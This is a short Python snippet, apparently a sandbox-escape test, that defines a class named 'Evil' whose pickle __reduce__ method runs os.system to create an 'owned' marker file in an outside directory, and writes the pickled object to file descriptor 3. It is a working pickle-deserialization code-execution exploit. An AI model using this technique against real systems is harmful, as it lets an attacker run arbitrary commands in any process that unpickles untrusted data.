import pickle

class Evil:
    def __reduce__(self):
        return os.system, ("touch " + PLACES["outside"] + "/owned",)

def act(x):
    os.write(3, pickle.dumps(Evil()))
    return Evil()
